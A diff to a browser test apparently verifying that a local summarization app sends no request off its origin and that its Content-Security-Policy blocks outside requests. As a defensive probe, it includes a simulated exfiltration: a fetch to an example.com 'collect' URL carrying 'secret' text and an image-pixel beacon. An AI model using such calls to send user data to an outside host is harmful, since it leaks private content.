@@ -1,5 +1,8 @@
-// Nothing leaves the tab: every request goes to the app's own origin, and
-// summarizing makes no request at all.
+// Nothing leaves the tab: every request the page, its worker and its
+// service worker make goes to the app's own origin; summarizing and
+// building a timeline make no request at all (the browser records none and
+// the server receives none); and the page's Content-Security-Policy blocks
+// a request to another origin even if some code tried.
 import { after, before, test } from "node:test";
 import assert from "node:assert/strict";
 import { fixtureText, loadExample, openApp, pasteArticles, setUp, summarize, waitForModel } from "../helpers.mjs";
@@ -8,28 +11,66 @@ let env;
 before(async () => (env = await setUp()));
 after(async () => env?.tearDown());
 
-test("no request to another origin, and none while summarizing", async () => {
+test("no request to another origin, and none while summarizing or streaming", async () => {
   const context = await env.browser.newContext();
   const requests = [];
   let phase = "loading";
-  context.on("request", (request) => requests.push({ url: request.url(), phase }));
+  const origin = new URL(env.server.url).origin;
+  // Every request of the context (page, dedicated worker, service worker)
+  // passes through here; one to another origin is recorded and refused.
+  await context.route("**/*", (route) => {
+    const url = route.request().url();
+    requests.push({ url, phase, via: "route" });
+    if (url.startsWith(origin)) return route.continue();
+    return route.abort("blockedbyclient");
+  });
+  context.on("request", (request) => requests.push({ url: request.url(), phase, via: "event" }));
   const { page } = await openApp(env, { context });
   await waitForModel(page);
   assert.ok(requests.some((r) => r.url.includes("models/muse-v3/encoder.onnx")), "the model download is recorded");
 
   await loadExample(page);
   await pasteArticles(page, [fixtureText("ship-en.txt")]);
+  await page.waitForTimeout(500); // let the service worker finish installing
+  const served = env.server.requests.length;
   phase = "summarizing";
   await summarize(page);
+  assert.ok((await page.getByTestId("summary-sentence").count()) > 0);
   await page.getByRole("tab", { name: "How it was chosen" }).click();
   await page.getByRole("tab", { name: "Map" }).click();
+  phase = "streaming";
+  await page.getByTestId("mode-timeline").click();
+  await page.locator("#stream-policy").selectOption("cos");
+  await page.getByTestId("timeline-run").click();
+  await page.getByTestId("timeline-update").first().waitFor({ timeout: 60_000 });
   phase = "done";
+  assert.equal(env.server.requests.length, served, `the server received ${JSON.stringify(env.server.requests.slice(served))}`);
 
-  const origin = new URL(env.server.url).origin;
   const foreign = requests.filter((r) => !r.url.startsWith(origin) && !r.url.startsWith("blob:") && !r.url.startsWith("data:"));
   assert.deepEqual(foreign, [], "requests to other origins");
-  const during = requests.filter((r) => r.phase === "summarizing");
-  assert.deepEqual(during, [], "requests while summarizing");
-  assert.deepEqual(page.errors, []);
+  const during = requests.filter((r) => r.phase === "summarizing" || r.phase === "streaming");
+  assert.deepEqual(during, [], "requests while summarizing or streaming");
+
+  // Even a deliberate attempt is stopped by the page's policy, before any request is made.
+  const attempt = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+    const outcome = await fetch("https://example.com/collect?text=secret").then(() => "sent", () => "blocked");
+    const image = await new Promise((done) => {
+      const img = new Image();
+      img.onload = () => done("loaded");
+      img.onerror = () => done("blocked");
+      img.src = "https://example.com/pixel.png";
+    });
+    await new Promise((r) => setTimeout(r, 50));
+    return { outcome, image, violations };
+  });
+  assert.equal(attempt.outcome, "blocked");
+  assert.equal(attempt.image, "blocked");
+  assert.ok(attempt.violations.includes("connect-src"), `CSP violations: ${attempt.violations}`);
+  // Chromium announces the image before its policy check, but nothing reached the network layer.
+  const leaked = requests.filter((r) => r.url.includes("example.com") && r.via === "route");
+  assert.deepEqual(leaked, [], "the CSP stops the request before it leaves the browser");
+  assert.deepEqual(page.errors.filter((e) => !/Content Security Policy|example\.com/.test(e)), []);
   await context.close();
 });
